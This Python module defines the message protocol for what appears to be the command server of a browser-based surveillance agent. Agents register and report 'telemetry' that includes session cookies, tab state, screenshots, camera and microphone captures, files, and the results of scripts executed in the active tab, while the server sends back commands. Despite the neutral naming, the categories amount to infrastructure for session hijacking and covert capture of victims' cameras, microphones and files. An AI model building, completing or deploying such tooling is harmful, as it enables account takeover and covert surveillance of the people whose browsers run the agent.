"""Channel message and telemetry event types.

The agent protocol is a small set of JSON messages tagged by ``type``:

  Agent → Server:
    register, ping, or one of the telemetry categories below

  Server → Agent:
    {command, clientId, payload}, pong

Telemetry categories form a closed set.  Each carries its retention policy
and, for binary categories, the extension used when its payload is written
to a content file.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Any


class Retention(enum.Enum):
    UPSERT = "upsert"  # latest event per agent id
    APPEND = "append"
    BINARY = "binary"  # externalized content, appended to the shared file


class Category(str, enum.Enum):
    SESSION_COOKIE = "session-cookie"
    TAB_STATE = "tab-state"
    SCREENSHOT = "screenshot"
    CAMERA = "camera"
    MIC = "mic"
    FILE = "file"
    SCRIPT_RESULT = "script-result"
    ACTIVE_TAB_SCRIPT_RESULT = "active-tab-script-result"

    @property
    def retention(self) -> Retention:
        return _RETENTION.get(self, Retention.APPEND)

    @property
    def extension(self) -> str:
        """Content file extension: image → png, audio → wav, else bin."""
        return _EXTENSIONS.get(self, "bin")

    @classmethod
    def parse(cls, value: Any) -> Category | None:
        try:
            return cls(value)
        except ValueError:
            return None


_RETENTION = {
    Category.SESSION_COOKIE: Retention.UPSERT,
    Category.TAB_STATE: Retention.UPSERT,
    Category.SCREENSHOT: Retention.BINARY,
    Category.CAMERA: Retention.BINARY,
    Category.MIC: Retention.BINARY,
    Category.FILE: Retention.BINARY,
}

_EXTENSIONS = {
    Category.SCREENSHOT: "png",
    Category.CAMERA: "png",
    Category.MIC: "wav",
}


@dataclass
class TelemetryEvent:
    """One reported observation from an agent."""

    category: Category
    agent_id: str
    data: Any = None
    timestamp: Any = None

    def to_record(self) -> dict:
        """Stored form, using the wire field names."""
        return {
            "type": self.category.value,
            "clientId": self.agent_id,
            "data": self.data,
            "timestamp": self.timestamp,
        }


# ── Inbound channel messages ──────────────────────────────────────


class MessageType(str, enum.Enum):
    REGISTER = "register"
    PING = "ping"
    TELEMETRY = "telemetry"


@dataclass
class RegisterMessage:
    agent_id: str
    type: MessageType = MessageType.REGISTER


@dataclass
class PingMessage:
    type: MessageType = MessageType.PING


@dataclass
class TelemetryMessage:
    event: TelemetryEvent
    type: MessageType = MessageType.TELEMETRY


ChannelMessage = RegisterMessage | PingMessage | TelemetryMessage


def parse_message(raw: Any) -> ChannelMessage | None:
    """Turn a decoded JSON message into a typed message, or None if unknown."""
    if not isinstance(raw, dict):
        return None
    msg_type = raw.get("type")
    if msg_type == MessageType.PING.value:
        return PingMessage()
    agent_id = raw.get("clientId")
    if not isinstance(agent_id, str) or not agent_id:
        return None
    if msg_type == MessageType.REGISTER.value:
        return RegisterMessage(agent_id=agent_id)
    category = Category.parse(msg_type)
    if category is None:
        return None
    return TelemetryMessage(
        event=TelemetryEvent(
            category=category,
            agent_id=agent_id,
            data=raw.get("data"),
            timestamp=raw.get("timestamp"),
        )
    )
